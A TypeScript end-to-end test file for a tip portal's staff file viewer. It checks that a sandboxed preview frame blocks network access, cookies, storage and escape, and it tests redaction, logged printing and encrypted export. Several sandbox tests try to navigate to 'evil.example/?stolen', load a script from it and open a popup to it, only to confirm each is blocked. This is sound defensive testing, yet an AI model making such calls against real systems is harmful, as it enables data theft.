import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { generateX25519Identity, identityToRecipient } from "age-encryption";
import { unzipSync, strFromU8 } from "fflate";
import { getDocument } from "pdfjs-dist/legacy/build/pdf.mjs";
import type { Browser, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { newIdentity, recipientOf } from "#app/crypto/identity";
import { newSubmissionToken } from "#app/crypto/tracking-code";
import { buildDeps } from "#app/server/deps.server";
import { parseEnv } from "#app/server/env.server";
import { stageFile } from "#app/services/tip/stage-file.server";
import { submitTip } from "#app/services/tip/submit-tip.server";
import { act, staffPage, stepUpIfAsked } from "#test/e2e/walk/people";
import { aTip } from "#test/factories/portal-world";
import { accessibilityFaults } from "#test/setup/accessibility";
import { launchBrowser } from "#test/setup/browser";
import { startPortal, type Portal } from "#test/setup/portal";
import { aChineseText, aDocx, aPdf, aPng, aWav, aWebm, MARK } from "./samples";

let portal: Portal;
let browser: Browser;
let page: Page;
let parts: Awaited<ReturnType<typeof buildDeps>>;
let leadId: string;
let leadNumber: string;
const loginName = "jn-lx-intake";
const who = () => ({ origin: portal.origin, loginName });
const samples: { name: string; bytes: Uint8Array }[] = [];
const foreign: string[] = [];

beforeAll(async () => {
  [portal, browser] = await Promise.all([startPortal(), launchBrowser()]);
  parts = await buildDeps(
    parseEnv({
      NODE_ENV: "test",
      DATABASE_URL: portal.databaseUrl,
      DATA_DIR: portal.dataDir,
      ORIGIN: portal.origin,
      PORT: new URL(portal.origin).port,
    }),
  );
  samples.push(
    { name: "照片.png", bytes: await aPng() },
    { name: "病历.pdf", bytes: aPdf() },
    { name: "录音.wav", bytes: aWav() },
    { name: "录像.webm", bytes: await aWebm(browser) },
    { name: "说明.docx", bytes: aDocx() },
    { name: "记录.txt", bytes: aChineseText() },
  );
  await seedTip();
  page = await staffPage(browser, {
    ...who(),
    // the attempts of the first two tests, each refused by the browser
    expected:
      /evil\.example|healthz|Unsafe attempt to initiate navigation|TrustedScriptURL/,
  });
  page.on("request", (request) => {
    const { origin, protocol } = new URL(request.url());
    if (
      origin !== portal.origin &&
      protocol !== "blob:" &&
      protocol !== "data:"
    )
      foreign.push(request.url());
  });
  await page.locator(`a[href="/zh/staff/leads/${leadId}"]`).first().click();
  await page.waitForSelector(".seal-mark");
  await act(page, "#actions button[type=submit]", who());
  await page.locator("#documents").waitFor();
});
afterAll(async () => {
  await page?.context().close();
  await browser?.close();
  await parts?.close();
  await portal?.stop();
});

/** A tip for the office with every kind of file, its list as the tipster seals it. */
async function seedTip(): Promise<void> {
  const { deps } = parts;
  const identity = await newIdentity();
  const threadRecipient = await recipientOf(identity);
  const staged = [];
  for (const { name, bytes } of samples)
    staged.push(
      await stageFile(deps, {
        stream: new Blob([new Uint8Array(bytes)]).stream(),
        name,
        type: "text/html",
        threadRecipient,
      }),
    );
  await submitTip(deps, {
    token: newSubmissionToken(),
    body: aTip({
      areaCode: "370102",
      what: "打开文件的样例。",
      files: staged.map(({ sealedHash }, index) => ({
        sealedHash,
        variant: index === 0 ? "CLEANED" : "ORIGINAL",
      })),
    }),
    identity: null,
    thread: { identity },
    staged,
  });
  const tip = await deps.db.tip.findFirstOrThrow({
    where: { threadRecipient },
    select: { lead: { select: { id: true, number: true } } },
  });
  leadId = tip.lead.id;
  leadNumber = tip.lead.number;
}

async function openFile(position: number): Promise<Frame> {
  await page.getByRole("button", { name: `打开 附件 ${position}` }).click();
  await page.locator(".file-viewer h3").waitFor();
  return viewerFrame();
}
async function viewerFrame(): Promise<Frame> {
  const handle = await page.waitForSelector("iframe.file-frame");
  const frame = (await handle.contentFrame())!;
  await frame.waitForURL(/\/api\/staff\/viewer$/);
  return frame;
}
const close = () => page.getByRole("button", { name: "关闭预览" }).click();
const logged = (kind: string) =>
  parts.deps.db.logEntry.count({ where: { kind, leadId } });

/** Colour of the drawn page at a part of its width and height. */
function colourAt(frame: Frame, x: number, y: number): Promise<number[]> {
  return frame.evaluate(
    ([atX, atY]) => {
      const canvas = document.querySelector("canvas")!;
      return [
        ...canvas
          .getContext("2d")!
          .getImageData(
            Math.floor(canvas.width * atX!),
            Math.floor(canvas.height * atY!),
            1,
            1,
          ).data,
      ];
    },
    [x, y],
  );
}

describe("files of a lead in Chromium", () => {
  it("shows a picture in a frame that has no origin, no network and no way out", async () => {
    const frame = await openFile(1);
    await frame.waitForSelector("canvas");
    expect(await colourAt(frame, 0.5, 0.5)).toEqual([200, 160, 60, 255]);
    expect(await page.locator(".file-standing").first().innerText()).toContain(
      "已清除",
    );
    const rights = await frame.evaluate(async () => {
      const blocked = async (work: () => unknown) => {
        try {
          await work();
          return "DONE";
        } catch (error) {
          return (error as Error).name;
        }
      };
      return {
        origin: self.origin,
        fetch: await blocked(() => fetch("/healthz")),
        cookie: await blocked(() => document.cookie),
        storage: await blocked(() => localStorage.length),
        parent: await blocked(() => window.parent.document.title),
        top: await blocked(() => {
          window.top!.location.href = "https://evil.example/";
        }),
        popup: window.open("https://evil.example/") === null,
        peer: "RTCPeerConnection" in window,
        script: await blocked(() => {
          document.body.setAttribute("data-x", "1");
          const made = document.createElement("script");
          made.src = "https://evil.example/x.js";
        }),
      };
    });
    expect(rights).toEqual({
      origin: "null",
      fetch: "TypeError",
      cookie: "SecurityError",
      storage: "SecurityError",
      parent: "SecurityError",
      top: "SecurityError",
      popup: true,
      peer: false,
      script: "TypeError",
    });
    await frame.getByRole("button", { name: "旋转" }).click();
    await expect
      .poll(() =>
        frame.evaluate(() => {
          const { width, height } = document.querySelector("canvas")!;
          return height > width;
        }),
      )
      .toBe(true);
    await frame.locator(".stage").press("+");
    expect(await frame.locator(".percent").innerText()).toBe("125%");
    expect(await accessibilityFaults(frame as unknown as Page)).toEqual([]);
    expect(await accessibilityFaults(page)).toEqual([]);
    await close();
  });

  it("cannot be led out by a frame that tries to navigate", async () => {
    const frame = await openFile(1);
    await frame.waitForSelector("canvas");
    const before = foreign.length;
    await frame
      .evaluate(() => {
        location.href = "https://evil.example/?stolen";
      })
      .catch(() => undefined);
    await page.waitForTimeout(500);
    expect(foreign.slice(before)).toEqual([]);
    await close();
  });

  it("shows PDF pages as pixels, with fonts of the release, and follows no link of the file", async () => {
    const characterMap = page.waitForResponse(/\/UniGB-UCS2-H-[\w-]+\.bcmap$/);
    const frame = await openFile(2);
    expect((await characterMap).ok()).toBe(true);
    await frame.waitForSelector("canvas");
    expect(await frame.locator(".number").innerText()).toContain("共 2 页");
    const darkAt = (row: number) =>
      frame.evaluate((part) => {
        const canvas = document.querySelector("canvas")!;
        const { data } = canvas
          .getContext("2d")!
          .getImageData(
            0,
            canvas.height * part,
            canvas.width,
            canvas.height / 6,
          );
        let dark = 0;
        for (let at = 0; at < data.length; at += 4)
          if (data[at]! < 100) dark += 1;
        return dark;
      }, row);
    // Helvetica, and the Chinese words whose font is not in the file
    expect(await darkAt(0.12)).toBeGreaterThan(50);
    expect(await darkAt(0.42)).toBeGreaterThan(50);
    const opened: string[] = [];
    page.context().on("page", (made) => opened.push(made.url()));
    await frame.locator("canvas").click();
    await frame.getByRole("button", { name: "下一页" }).click();
    await expect
      .poll(() => frame.locator("[aria-label=页码]").inputValue())
      .toBe("2");
    expect(opened).toEqual([]);
    await close();
  });

  it("plays sound and film", async () => {
    for (const [position, kind] of [
      [3, "audio"],
      [4, "video"],
    ] as const) {
      const frame = await openFile(position);
      await frame.waitForSelector(kind);
      await expect
        .poll(() =>
          frame.evaluate(
            (name) =>
              document.querySelector<HTMLMediaElement>(name)!.readyState,
            kind,
          ),
        )
        .toBeGreaterThanOrEqual(1);
      await close();
    }
  });

  it("gives an Office file only after a warning, and shows text in GB 18030", async () => {
    await page.getByRole("button", { name: "打开 附件 5" }).click();
    await page.locator(".file-viewer .notice").waitFor();
    expect(await page.locator("iframe.file-frame").count()).toBe(0);
    await page.getByRole("button", { name: "下载" }).click();
    const download = page.waitForEvent("download");
    await page.getByRole("button", { name: "已了解，下载" }).click();
    const saved = await download;
    expect(saved.suggestedFilename()).toBe("说明.docx");
    expect(new Uint8Array(readFileSync(await saved.path()))).toEqual(
      samples[4]!.bytes,
    );
    await close();
    const frame = await openFile(6);
    await expect
      .poll(() => frame.locator("pre").innerText())
      .toContain("挂名住院");
    await close();
  });

  it("says that every file is as the tipster sent it", async () => {
    await page.locator("[data-balance=ALL]").waitFor();
    expect(await page.locator("[data-balance=ALL]").innerText()).toContain(
      "6 个文件齐全",
    );
    expect(await page.locator(".seal-mark").innerText()).toContain("服务器");
  });

  it("makes redacted copies without a byte of the original", async () => {
    const picture = await openFile(1);
    await picture.waitForSelector("canvas");
    await page.getByRole("button", { name: "制作遮盖副本" }).click();
    const sheet = page.locator(".redact__stack svg");
    await sheet.waitFor();
    await sheet.scrollIntoViewIfNeeded();
    const box = (await sheet.boundingBox())!;
    await page.mouse.move(box.x + box.width * 0.25, box.y + box.height * 0.25);
    await page.mouse.down();
    await page.mouse.move(box.x + box.width * 0.75, box.y + box.height * 0.75);
    await page.mouse.up();
    await page.locator(".redact__boxes li").waitFor();
    // without a pointer: add, type, undo
    await page.getByRole("button", { name: "添加方框" }).click();
    const left = page.getByRole("spinbutton", { name: "左（%）" }).nth(1);
    await left.fill("0");
    await left.press("Tab");
    await page.getByRole("button", { name: "撤销" }).click();
    await page.getByRole("button", { name: "撤销" }).click();
    expect(await page.locator(".redact__boxes li").count()).toBe(1);
    expect(await accessibilityFaults(page)).toEqual([]);
    await page.getByRole("button", { name: "加密保存副本" }).click();
    await page.getByText("副本已用本案密钥加密保存").waitFor();
    await page.getByRole("button", { name: "打开 副本 1" }).waitFor();
    await close();

    await openFile(2).then((frame) => frame.waitForSelector("canvas"));
    await page.getByRole("button", { name: "制作遮盖副本" }).click();
    await page.locator(".redact__stack svg").waitFor();
    await page.getByRole("button", { name: "添加方框" }).click();
    await page.getByRole("button", { name: "加密保存副本" }).click();
    await page.getByRole("button", { name: "打开 副本 2" }).waitFor();
    await close();

    await openFile(6).then((frame) => frame.waitForSelector("pre"));
    await page.getByRole("button", { name: "制作遮盖副本" }).click();
    await page.getByLabel("要遮盖的词语").fill(MARK.toLowerCase());
    await page.getByRole("button", { name: "遮盖每一处" }).click();
    await page.getByRole("button", { name: "加密保存副本" }).click();
    await page.getByRole("button", { name: "打开 副本 3" }).waitFor();
    await close();

    const copies: Uint8Array[] = [];
    for (const [position, name] of [
      [1, "遮盖副本-附件1.png"],
      [2, "遮盖副本-附件2.pdf"],
      [3, "遮盖副本-附件6.txt"],
    ] as const) {
      await page.getByRole("button", { name: `打开 副本 ${position}` }).click();
      const frame = await viewerFrame();
      await frame.waitForSelector(position === 3 ? "pre" : "canvas");
      if (position === 1) {
        expect(await colourAt(frame, 0.5, 0.5)).toEqual([0, 0, 0, 255]);
        expect((await colourAt(frame, 0.1, 0.1))[0]).toBe(200);
      }
      const download = page.waitForEvent("download");
      await page.getByRole("button", { name: "下载" }).click();
      const saved = await download;
      expect(saved.suggestedFilename()).toBe(name);
      copies.push(new Uint8Array(readFileSync(await saved.path())));
      await close();
    }
    const pdf = await getDocument({ data: copies[1]!.slice(), verbosity: 0 })
      .promise;
    expect(pdf.numPages).toBe(2);
    for (const number of [1, 2]) {
      const sheetOf = await pdf.getPage(number);
      expect((await sheetOf.getTextContent()).items).toEqual([]);
      expect(await sheetOf.getAnnotations()).toEqual([]);
    }
    expect(await pdf.getJSActions()).toBeNull();
    for (const copy of copies)
      expect(Buffer.from(copy).toString("latin1")).not.toContain(MARK);
    expect(strFromU8(copies[2]!)).toBe("挂名住院\n█████ was there\n");
    expect(await logged("CASE_DOCUMENT_ADDED")).toBe(3);
    expect(await logged("CASE_DOCUMENT_OPENED")).toBe(3);
  });

  it("sends files to the tipster, once", async () => {
    await page.setInputFiles("#send-files input[type=file]", [
      {
        name: "受理通知.txt",
        mimeType: "text/plain",
        buffer: Buffer.from("请补充日期"),
      },
      { name: "表.csv", mimeType: "text/csv", buffer: Buffer.from("a,b") },
    ]);
    const send = page.getByRole("button", { name: "加密并发送" });
    await send.dblclick();
    await page.getByText("已发送 2 个文件").waitFor();
    await page.getByRole("button", { name: "打开 附件 8" }).waitFor();
    expect(await page.locator("#files .file-list li").count()).toBe(8);
    const frame = await openFile(7);
    await expect
      .poll(() => frame.locator("pre").innerText())
      .toBe("请补充日期");
    await close();
    expect(await logged("STAFF_FILES_SENT")).toBe(1);
  });

  it("prints every sheet with who, when and which lead, and only after it was logged", async () => {
    const before = await page.pdf();
    const unprinted = await textOf(before);
    expect(unprinted.join("")).toContain("请使用页面下方的");
    expect(unprinted.join("")).not.toContain("打开文件的样例");
    await page.evaluate(() => {
      window.print = () => undefined;
    });
    await page.locator("#print").click();
    await expect.poll(() => logged("LEAD_PRINTED")).toBe(1);
    await page.waitForSelector(".print-mark", { state: "attached" });
    const sheets = await textOf(await page.pdf());
    expect(sheets.length).toBeGreaterThan(1);
    for (const sheet of sheets) {
      expect(sheet).toContain(loginName);
      expect(sheet).toContain(leadNumber);
    }
    expect(sheets.join("")).toContain("打开文件的样例");
    expect(sheets.join("")).not.toContain("加密并发送");
  });

  it("exports the lead as a file that age opens, after a second factor and an entry in the log", async () => {
    const identity = await generateX25519Identity();
    await page.locator("#export").click();
    const dialog = page.locator("dialog[open]");
    await dialog
      .locator("[name=recipient]")
      .fill(await identityToRecipient(identity));
    expect(await accessibilityFaults(page)).toEqual([]);
    const download = page.waitForEvent("download");
    await dialog.getByRole("button", { name: "导出" }).click();
    await stepUpIfAsked(page, who());
    const saved = await download;
    expect(saved.suggestedFilename()).toBe(`yanlu-${leadNumber}.zip.age`);
    const folder = mkdtempSync(join(tmpdir(), "yanlu-export-"));
    try {
      writeFileSync(join(folder, "key"), `${identity}\n`, { mode: 0o600 });
      const zip = execFileSync(
        "age",
        ["-d", "-i", join(folder, "key"), await saved.path()],
        { maxBuffer: 64 * 1024 ** 2 },
      );
      const files = unzipSync(new Uint8Array(zip));
      for (const [index, { name, bytes }] of samples.entries())
        expect(files[`files/0${index + 1}-${name}`]).toEqual(bytes);
      expect(strFromU8(files["tip.txt"]!)).toContain("打开文件的样例。");
      expect(Object.keys(files)).toContain("documents/01-遮盖副本-附件1.png");
      expect(JSON.parse(strFromU8(files["lead.json"]!))).toMatchObject({
        format: "yanlu-lead-1",
        number: leadNumber,
        state: "SCREENING",
      });
      writeFileSync(join(folder, "lead.zip"), zip);
      execFileSync("unzip", ["-q", "lead.zip"], {
        cwd: folder,
        env: { ...process.env, LC_ALL: "C.UTF-8" },
      });
      execFileSync("sha256sum", ["--check", "--quiet", "manifest.txt"], {
        cwd: folder,
      });
    } finally {
      rmSync(folder, { recursive: true });
    }
    expect(await logged("LEAD_EXPORTED")).toBe(1);
    await page.getByRole("button", { name: "关闭", exact: true }).click();
  });

  it("asked nobody but its own server", () => {
    expect(foreign).toEqual([]);
  });
});

/** The text of each sheet, without spaces and breaks. */
async function textOf(pdf: Uint8Array): Promise<string[]> {
  const file = await getDocument({ data: new Uint8Array(pdf), verbosity: 0 })
    .promise;
  const sheets: string[] = [];
  for (let number = 1; number <= file.numPages; number++) {
    const { items } = await (await file.getPage(number)).getTextContent();
    sheets.push(
      items
        .map((item) => ("str" in item ? item.str : ""))
        .join("")
        // some fonts tell a radical where the character was meant, and not all have one to fold to
        .normalize("NFKC")
        .replace(/⻚/gu, "页")
        .replace(/\s/g, ""),
    );
  }
  return sheets;
}
